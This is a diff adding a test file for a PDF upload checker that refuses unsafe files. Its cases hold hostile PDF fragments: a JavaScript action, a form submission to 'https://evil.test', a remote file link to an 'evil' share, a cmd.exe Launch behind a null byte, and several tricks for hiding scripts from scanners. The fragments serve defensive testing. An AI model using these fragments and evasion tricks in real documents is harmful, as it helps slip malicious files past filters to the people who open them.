@@ -1,0 +1,111 @@
+import { deflateSync } from 'node:zlib'
+import { PDFDocument, PDFName, PDFString } from 'pdf-lib'
+import { expect, test } from 'vitest'
+import { pdf } from '../../../src/server/modules/files/examination/pdf.ts'
+
+const file = (...parts: (string | Uint8Array)[]) =>
+  Buffer.concat(
+    ['%PDF-1.7\n', ...parts].map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
+  )
+
+const object = (dictionary: string) => file(`1 0 obj\n<< ${dictionary} >>\nendobj\n%%EOF`)
+
+/** A stream whose dictionary, beginning and content are given. */
+const stream = (dictionary: string, content: Uint8Array | string, word = 'stream\n') =>
+  file(`1 0 obj\n${dictionary}${word}`, content, '\nendstream\nendobj\n%%EOF')
+
+const script = '1 0 << /S /JavaScript /JS (app.alert(1)) >>'
+const objects = '<< /Type /ObjStm /N 1 /First 4 /Length 99 /Filter /FlateDecode >>\n'
+const packed = deflateSync(script)
+
+test.each([
+  ['opens a file elsewhere', object('/A << /S /GoToR /F (//evil/share.pdf) >>')],
+  ['opens a file inside it', object('/A << /S /GoToE /T << /N (a) >> >>')],
+  ['acts when a page is opened', object('/AA << /O 5 0 R >>')],
+  ['acts when a page is opened, by reference', object('/AA 5 0 R')],
+  ['acts when a page is opened, behind a comment', object('/AA %\n5 0 R')],
+  ['holds a file without saying so', object('/Type /Filespec /EF << /F 5 0 R >>')],
+  ['holds a file on a page', object('/Subtype /FileAttachment')],
+  ['plays a film', object('/A << /S /Rendition >>')],
+  ['sends a form', object('/A << /S /SubmitForm /F (https://evil.test) >>')],
+  ['fills a form', object('/A << /S /ImportData >>')],
+  ['ends a name with a zero', object('/S /Launch\0/F (cmd.exe)')],
+  [
+    'packs a script twice',
+    stream('<< /Length 9 /Filter [/FlateDecode /FlateDecode] >>\n', deflateSync(packed)),
+  ],
+  ['packs objects twice', stream(objects.replace('/FlateDecode', '[/FlateDecode /FlateDecode]'), 'x')],
+  [
+    'packs deeper than anybody',
+    stream(
+      '<< >>',
+      [1, 2, 3, 4].reduce((bytes) => deflateSync(bytes), packed),
+    ),
+  ],
+  ['begins a stream with a carriage return', stream(objects, packed, 'stream\r')],
+  ['begins a stream with spaces', stream(objects, packed, 'stream  \t\r\n')],
+  ['packs a script in a picture', stream('<< /Subtype /Image >>\n', packed)],
+  ['names packed objects in numbers', stream(objects.replace('ObjStm', 'Obj#53tm'), 'x')],
+  ['says how its objects are packed in another place', stream(objects.replace('/FlateDecode', '7 0 R'), 'x')],
+  ['packs objects by difference', stream(objects.replace('/N', '/DecodeParms 7 0 R /N'), 'x')],
+  [
+    'feigns the beginning of an object in a text',
+    stream(objects.replace('/Type', '/DP 7 0 R /Title (\n1 0 obj<<) /Type'), 'x'),
+  ],
+  [
+    'feigns the beginning of an object in a comment',
+    stream(objects.replace('/Type', '/DP 7 0 R %1 0 obj<<\n /Type'), 'x'),
+  ],
+  [
+    'feigns the beginning of a stream in a text',
+    stream(objects.replace('/N', '/X (>>stream\n) /DP 7 0 R /N'), 'x'),
+  ],
+  ['has an index of packed objects, and another packing', object('/Type /XRef /Filter /ASCIIHexDecode')],
+  ['has a script far behind in what is packed', stream(objects, deflateSync(' '.repeat(1_000_000) + script))],
+])('a PDF that %s is refused', async (_what, bytes) => {
+  expect(await pdf(bytes)).toEqual({ refused: 'file_unsafe' })
+})
+
+test('a script is found wherever the parts of what is unpacked meet', async () => {
+  for (let before = 16_370; before < 16_390; before += 1)
+    expect(await pdf(stream('<< >>', deflateSync(' '.repeat(before) + script)))).toEqual({
+      refused: 'file_unsafe',
+    })
+})
+
+test.each([
+  ['in the clear', object('/Encrypt 5 0 R')],
+  ['with its index packed', object('/Type /XRef /Encrypt 5 0 R')],
+])('a PDF that is encrypted, %s, is told apart', async (_what, bytes) => {
+  expect(await pdf(bytes)).toEqual({ refused: 'file_encrypted' })
+})
+
+/** How programs write the dictionaries of packed objects. */
+test.each([
+  ['Acrobat', '<</Filter/FlateDecode/First 17/Length 99/N 3/Type/ObjStm>>'],
+  ['Word', '<</Type/ObjStm/N 14/First 90/Filter/FlateDecode/Length 370>>\r\n'],
+  ['pdfTeX', '<<\n/Type /ObjStm\n/N 100\n/First 808\n/Length 1200      \n/Filter /FlateDecode\n>>\n'],
+  ['qpdf', '<< /Type /ObjStm /Length 100 /N 2 /First 10 /Filter /FlateDecode >>\n'],
+  ['iText', '<</Type/ObjStm/N 2/First 10/Length 12 0 R/Filter[/FlateDecode]/Extends 7 0 R>>'],
+])('a PDF as %s packs it is kept', async (_who, dictionary) => {
+  expect(await pdf(stream(dictionary, deflateSync('1 0 << /Type /Page >>')))).toEqual({})
+})
+
+test('a PDF with a link, a picture and packed objects is kept', async () => {
+  const document = await PDFDocument.create()
+  const page = document.addPage()
+  page.drawText('Transferencia realizada. JavaScript /AA /EF')
+  const link = document.context.obj({
+    Type: 'Annot',
+    Subtype: 'Link',
+    Rect: [0, 0, 100, 20],
+    A: { S: 'URI', URI: PDFString.of('https://banco.example') },
+  })
+  page.node.set(PDFName.of('Annots'), document.context.obj([link]))
+  for (const useObjectStreams of [true, false])
+    expect(await pdf(await document.save({ useObjectStreams }))).toEqual({})
+})
+
+test('a PDF may go to one of its own pages when it is opened', async () => {
+  expect(await pdf(object('/OpenAction << /S /GoTo /D [3 0 R /FitH 700] >>'))).toEqual({})
+})
